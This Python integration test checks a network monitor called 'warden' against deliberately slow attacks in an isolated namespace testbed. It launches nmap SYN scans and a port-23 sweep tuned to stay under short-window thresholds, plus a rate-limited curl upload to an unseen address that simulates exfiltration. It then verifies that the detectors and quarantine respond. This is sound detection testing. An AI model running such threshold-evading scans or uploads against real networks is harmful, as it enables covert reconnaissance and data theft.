#!/usr/bin/python3
"""Low and slow on the testbed: real tools, each from its own device in its learning period
(nothing learned yet), kept under every 10 s threshold, are caught by the evidence that
accumulates (10 min and 1 h; upload to new destinations over a minute).

Brings up its own testbed (prefix "wdsl" unless WD_TEST_TESTBED_PREFIX says otherwise) with four
devices and runs `warden run` (interval 1 s, the policy's detector defaults) in the gateway
namespace. Destinations a device meets in its first 10 minutes are its own (its cloud, met as
it starts up), so upload to them is never upload to the unknown: the uploading device is made
15 minutes old (the controller is stopped once, its saved engine state gets that device's
first-seen time moved back, and it is started again). Still learning: the learning period is
24 h. Then, all at once (the test takes about as long as the slowest):

  slow scan     dev1 runs `nmap -sS --scan-delay 1s --max-retries 0` over ports 1-1000 of one
                target. Every 10 s window holds about 10 ports, under the 24 of the 10 s check;
                port_scan must find it over a long horizon ("window": "10m" or "1h"), naming
                the target, within 2 minutes of the scan's start.
  slow sweep    dev2 runs nmap on port 23 over 60 addresses at one address per 5 s
                (`--scan-delay 5s --max-rate 0.2`): 2 addresses a 10 s window, under the 5 of
                the 10 s check; propagation must find it over a long horizon within 5 minutes.
  slow upload   dev3 uploads 100 MB with curl at 2.4 MiB/s (`--limit-rate`, streamed from
                stdin) to an address it never contacted: under the 4 MiB/s of the 10 s
                exfiltration check; upload_to_new must find it within 2 minutes, naming that
                address and the volume.
  quiet device  dev4 only pinged the gateway: no finding at all.

Each attack is bounded (`timeout`, and its own count: ports, addresses, bytes) and stopped as soon
as its finding is logged; a finding must also have quarantined its device. Targets are the
internet namespace's local range 198.18.64.0/18. Prints one PASS/FAIL line per check with the
catch times and exits 0 when all pass, 1 when any fails, 77 (SKIP) when the machine cannot run
it. Whatever happens it stops the controller it started (by PID), detaches warden, removes its
pins and takes its testbed down.

usage: test_slow_detection.py --warden PATH --source DIR [--keep-testbed]
"""

import json
import os
import signal
import subprocess
import sys
import time

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from wardenlib import (TRACE, Failed, Skip, TestbedRun, argument_parser, check, cleanup,  # noqa: E402
                       interrupt_on_sigterm, preflight, print_setup_failure, wait_for)

DEVICES = 4
SCAN_TARGET = "198.18.64.1"
SWEEP_FIRST, SWEEP_COUNT = "198.18.65.1", 60  # 198.18.65.1-60
UPLOAD_TARGET = "198.18.66.7"                 # never contacted by any device before
UPLOAD_BYTES = 100_000_000
UPLOAD_RATE = "2400K"                         # curl's K is KiB: 2.46 MB/s
DEVICE_AGE_MS = 15 * 60 * 1000                # the uploader's age: past its first 10 minutes
LONG = ("10m", "1h")
AFTER_END_S = 12                              # how long a finding is awaited after the tool ends


def now_ms():
    return int(time.time() * 1000)


class Attack:
    """One slow attack: the device, the command, its bound, and what must catch it by when."""

    def __init__(self, name, device, argv, timeout_s, detector, windows, within_s, peer):
        self.name, self.device, self.argv, self.timeout_s = name, device, argv, timeout_s
        self.detector, self.windows, self.within_s, self.peer = detector, windows, within_s, peer
        self.proc = None
        self.started_ms = None
        self.finding = None
        self.ended = None  # time.monotonic() when the tool ended by itself
        self.stopped_ms = None

    def start(self, tb):
        TRACE.append(f"{self.name} from {self.device}: {' '.join(self.argv)}")
        self.started_ms = now_ms()
        self.proc = subprocess.Popen(tb.in_ns(self.device.ns, "timeout", str(self.timeout_s), *self.argv),
                                     stdout=subprocess.DEVNULL, stderr=subprocess.PIPE, text=True)

    def stop(self):
        if self.proc is None or self.stopped_ms is not None:
            return
        self.stopped_ms = now_ms()
        if self.proc.poll() is not None:
            return
        self.proc.send_signal(signal.SIGINT)
        try:
            self.proc.wait(timeout=5)
        except subprocess.TimeoutExpired:
            self.proc.kill()
            self.proc.wait()

    def latency_s(self):
        return (self.finding["ts_ms"] - self.started_ms) / 1000


def attacks(tb):
    scanner, sweeper, uploader = tb.devices[:3]
    a, b, c, d = (int(x) for x in SWEEP_FIRST.split("."))
    port = tb.env["WD_HTTP_PORT"]
    return [
        Attack("slow scan", scanner,
               ["nmap", "-sS", "-n", "-Pn", "--scan-delay", "1s", "--max-retries", "0", "-p", "1-1000",
                SCAN_TARGET], 150, "port_scan", LONG, 120.0, SCAN_TARGET),
        # --scan-delay spaces the probes to one host; --max-rate spaces them over all hosts.
        Attack("slow sweep", sweeper,
               ["nmap", "-sS", "-n", "-Pn", "--scan-delay", "5s", "--max-rate", "0.2", "--max-retries", "0",
                "-p", "23", f"{a}.{b}.{c}.{d}-{d + SWEEP_COUNT - 1}"], 330, "propagation", LONG, 300.0, None),
        # Streamed from stdin (-T -, chunked), so curl sends from its first second at its rate.
        Attack("slow upload", uploader,
               ["sh", "-c", f"head -c {UPLOAD_BYTES} /dev/zero | curl -sS -o /dev/null --max-time 100 "
                            f"--limit-rate {UPLOAD_RATE} -X POST -H 'Content-Type: application/octet-stream' "
                            f"-T - http://{UPLOAD_TARGET}:{port}/upload"],
               110, "upload_to_new", ("60s", "1h"), 120.0, UPLOAD_TARGET),
    ]


def age_device(w, mac, age_ms):
    """Stops the controller, moves mac's first-seen time in the saved engine state back by
    age_ms and starts the controller again: the device is that much older, nothing else."""
    check(w.stop() == 0, "warden run did not exit cleanly on SIGTERM")
    path = os.path.join(w.state_dir, "engine.json")
    with open(path) as f:
        state = json.load(f)
    mine = [d for d in state.get("devices", []) if d.get("mac") == mac]
    check(mine, f"the saved engine state does not hold {mac}")
    mine[0]["first_seen_ms"] -= age_ms
    with open(path, "w") as f:
        json.dump(state, f)
    w.start()


def check_caught(w, a):
    """The requirements on a caught attack; raises Failed with what is wrong."""
    f = a.finding
    check(f is not None, f"{a.device} has no {a.detector} finding, watched for {(a.stopped_ms - a.started_ms) / 1000:.0f} s "
                         f"from the {a.name}'s start (the tool's bound: {a.timeout_s} s)")
    check(f.get("window") in a.windows,
          f"the {a.detector} finding was judged over {f.get('window')!r}, not over {' or '.join(a.windows)}: "
          f"{f.get('evidence')}")
    check(f.get("value", 0) >= f.get("threshold", float("inf")) and f.get("evidence"),
          f"the finding has no evidence or a value below its threshold: {f}")
    if a.peer is not None:
        check(f.get("peer") == a.peer and a.peer in f["evidence"], f"the finding does not name {a.peer}: {f}")
    q = wait_for(lambda: next((e for e in w.events() if e.get("kind") == "quarantine" and e.get("mac") == a.device.mac
                               and e.get("origin") == "detector" and e.get("ts_ms", 0) >= a.started_ms), None),
                 5, interval=1.0)
    check(q is not None, f"{a.device} was not quarantined after the finding ({f.get('action')})")
    check(a.latency_s() <= a.within_s,
          f"found {a.latency_s():.1f} s after the {a.name} began (allowed {a.within_s:.0f} s): {f['evidence']}")
    return q


def main():
    args = argument_parser(__doc__).parse_args()
    try:
        preflight(args.warden, ["ip", "nsenter", "nmap", "curl", "dnsmasq", "nft", "timeout"])
    except Skip as e:
        print(f"SKIP: {e}")
        return 77

    interrupt_on_sigterm()
    test_run = TestbedRun(args.source, "wdsl", "slow")
    tb = test_run.testbed
    w = None
    results = []
    running = []

    def report(name, ok, note):
        print(f"{'PASS' if ok else 'FAIL'} {name}: {note}", flush=True)
        results.append(ok)

    try:
        test_run.bring_up(DEVICES, args.keep_testbed)
        w = test_run.make_warden(args.warden, f"/sys/fs/bpf/warden-slow-{test_run.prefix}")
        w.write_policy()
        w.start()
        t0 = now_ms()
        gw4 = tb.env["WD_GW_LAN_IP4"]
        for d in tb.devices:
            check(tb.pings(d.ns, gw4), f"{d} cannot ping the gateway")
        time.sleep(2)  # a few polls: every device has counters and a first sample
        plan = attacks(tb)
        quiet = tb.devices[3]
        age_device(w, plan[2].device.mac, DEVICE_AGE_MS)

        running = list(plan)
        for a in plan:
            a.start(tb)
        deadline = time.monotonic() + max(a.timeout_s for a in plan)
        while running and time.monotonic() < deadline:
            events = w.events()
            for a in list(running):
                a.finding = next((e for e in events if e.get("kind") == "finding" and e.get("mac") == a.device.mac
                                  and e.get("detector") == a.detector and e.get("ts_ms", 0) >= a.started_ms), None)
                if a.proc.poll() is not None and a.ended is None:
                    a.ended = time.monotonic()
                # A finding can come a little after the tool ends (flows are read in passes of ~5 s).
                if a.finding is not None or (a.ended is not None and time.monotonic() - a.ended > AFTER_END_S):
                    a.stop()
                    running.remove(a)
            time.sleep(1.0)
        for a in running:
            a.stop()

        for a in plan:
            try:
                q = check_caught(w, a)
                report(a.name, True, f"{a.device} caught {a.latency_s():.1f} s after it began (target "
                                     f"{a.within_s:.0f} s), quarantined ({q.get('level')}); {a.detector} over "
                                     f"{a.finding['window']}: {a.finding['evidence']}")
            except Failed as e:
                others = [(f.get("detector"), f.get("window"), f.get("evidence")) for f in w.events()
                          if f.get("kind") == "finding" and f.get("mac") == a.device.mac]
                err = a.proc.stderr.read().strip() if a.proc and a.proc.stderr else ""
                report(a.name, False, f"{e}\n  its findings: {others}\n  the tool said: {err[-300:] or '(nothing)'}")
        others = [f for f in w.events() if f.get("kind") == "finding" and f.get("mac") == quiet.mac
                  and f.get("ts_ms", 0) >= t0]
        report("quiet device", not others,
               f"{quiet}: findings={[(f.get('detector'), f.get('evidence')) for f in others]}")
        caught = [a for a in plan if a.finding is not None]
        print("catch times: " + ", ".join(f"{a.name} {a.latency_s():.1f} s (target {a.within_s:.0f} s)"
                                          for a in caught), flush=True)
        if not all(results):
            print("  controller log, last lines:\n" + "".join(
                f"    {line}\n" for line in w.log().splitlines()[-10:]), end="")
    except (Failed, KeyboardInterrupt) as e:
        print_setup_failure(e)
        results.append(False)
    finally:
        for a in running:
            a.stop()
        problems = cleanup(tb, w, args.keep_testbed)
        for p in problems:
            print(f"cleanup: {p}")
    ok = bool(results) and all(results) and not problems
    print(f"{sum(results)} passed, {len(results) - sum(results)} failed")
    return 0 if ok else 1


if __name__ == "__main__":
    sys.exit(main())
